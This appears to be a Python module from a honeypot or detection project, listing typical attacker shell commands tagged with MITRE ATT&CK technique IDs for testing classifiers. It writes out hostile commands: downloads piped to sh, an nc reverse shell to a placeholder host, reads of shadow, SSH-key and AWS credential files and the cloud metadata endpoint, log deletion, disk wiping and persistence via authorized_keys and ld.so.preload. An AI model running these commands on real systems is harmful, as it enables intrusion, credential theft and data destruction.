# SPDX-License-Identifier: AGPL-3.0-or-later
"""What attackers type into honeypots, as words, each with the techniques that it must give."""
import re
from dataclasses import dataclass, field

PLAIN = re.compile(r"[A-Za-z0-9_./:=+,@%-]+")


@dataclass
class Word:
    """A word of a command: what the shell makes of it, and how it is written (None: plainly)."""

    value: str
    source: str | None = None
    fixed: bool = False

    def text(self):
        return self.source if self.source is not None else quoted(self.value)

    def free(self):
        """Whether a rewriting may still take it."""
        return self.source is None and not self.fixed and PLAIN.fullmatch(self.value) is not None


@dataclass
class Stage:
    """One command of a pipeline."""

    words: list
    redirects: list = field(default_factory=list)
    gaps: list = field(default_factory=list)
    front: str = ""
    back: str = ""

    def text(self):
        parts = self.words[0].text()
        gaps = self.gaps or [" "] * (len(self.words) - 1)
        for gap, word in zip(gaps, self.words[1:]):
            parts += gap + word.text()
        for op, target in self.redirects:
            parts += f" {op} {target.text()}"
        return self.front + parts + self.back


@dataclass
class Base:
    name: str
    stages: list
    expect: list

    def line(self):
        return " | ".join(stage.text() for stage in self.stages)


def quoted(value):
    return value if PLAIN.fullmatch(value) else single(value)


def single(text):
    return "'" + text.replace("'", "'\\''") + "'"


def _base(name, expect, *stages):
    made = []
    for argv in stages:
        redirects = []
        if isinstance(argv, tuple):
            argv, op, target = argv
            redirects.append((op, Word(target)))
        made.append(Stage([Word(value) for value in argv], redirects))
    return Base(name, made, expect.split())


def _split(text):
    return text.split(" ")


def bases():
    """Made anew on each call: rewritings change them."""
    simple = [
        ("shadow", "T1003.008", "cat /etc/shadow"),
        ("passwd", "T1083", "cat /etc/passwd"),
        ("wget", "T1105", "wget http://198.51.100.7/x -O /tmp/x"),
        ("curl_file", "T1105", "curl -o /tmp/x http://198.51.100.7/x"),
        ("tftp", "T1105", "tftp -g -r bot.arm7 198.51.100.7"),
        ("useradd", "T1136.001", "useradd -m -s /bin/bash x"),
        ("history", "T1070.003", "history -c"),
        ("history_null", "T1070.003", "ln -sf /dev/null /root/.bash_history"),
        ("history_read", "T1552.003", "cat /root/.bash_history"),
        ("setuid", "T1548.001", "chmod u+s /tmp/sh"),
        ("chmod", "T1222.002", "chmod 777 /tmp/x"),
        ("nmap", "T1046", "nmap -sS -p- 10.20.0.0/24"),
        ("uname", "T1082", "uname -a"),
        ("lscpu", "T1082", "lscpu"),
        ("log_removal", "T1685.006", "rm -rf /var/log"),
        ("iptables", "T1686", "iptables -F"),
        ("reverse_shell", "T1059.004", "nc -e /bin/sh 198.51.100.7 4444"),
        ("insmod", "T1547.006", "insmod /tmp/rk.ko"),
        ("auditd", "T1685", "systemctl stop auditd"),
        ("selinux", "T1685", "setenforce 0"),
        ("id_rsa", "T1552.004", "cat /root/.ssh/id_rsa"),
        ("aws", "T1552.001", "cat /root/.aws/credentials"),
        ("metadata", "T1552.005", "curl http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
        ("suid_search", "T1548.001", "find / -perm -4000 -type f"),
        ("whoami", "T1033", "whoami"),
        ("ifconfig", "T1016", "ifconfig -a"),
        ("netstat", "T1049", "netstat -antp"),
        ("processes", "T1057", "ps aux"),
        ("sudo", "T1548.003", "sudo -l"),
        ("disk_wipe", "T1561", "dd if=/dev/zero of=/dev/sda bs=1M"),
        ("smbclient", "T1135", "smbclient -L //10.20.0.5 -N"),
        ("archive", "T1560.001", "tar czf /tmp/o.tgz /root/.ssh"),
        ("rivals", "T1489", "pkill -9 xmrig"),
        ("ssh", "T1021.004", "ssh root@10.20.0.9"),
        ("reboot", "T1529", "reboot -f"),
        ("timestomp", "T1070.006", "touch -r /bin/ls /tmp/x"),
    ]
    made = [_base(name, expect, _split(line)) for name, expect, line in simple]
    key = "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC7 x"
    made += [
        _base("curl_sh", "T1105 T1059.004", _split("curl -s http://198.51.100.7/i.sh"), ["sh"]),
        _base("crontab", "T1053.003", ["echo", "* * * * * /tmp/x"], ["crontab", "-"]),
        _base("chpasswd", "T1098", ["echo", "root:x"], ["chpasswd"]),
        _base("authorized_keys", "T1098.004", (["echo", key], ">>", "/root/.ssh/authorized_keys")),
        _base("preload", "T1574.006", (["echo", "/tmp/x.so"], ">", "/etc/ld.so.preload")),
        _base("python", "T1059", ["python", "-c", 'import pty;pty.spawn("/bin/sh")']),
        _base("perl", "T1059", ["perl", "-e", 'exec "/bin/sh";']),
        _base("ldap", "T1087.002", _split("ldapsearch -x -H ldap://10.20.0.5 -b dc=corp,dc=example") + ["(objectClass=user)"]),
    ]
    return made
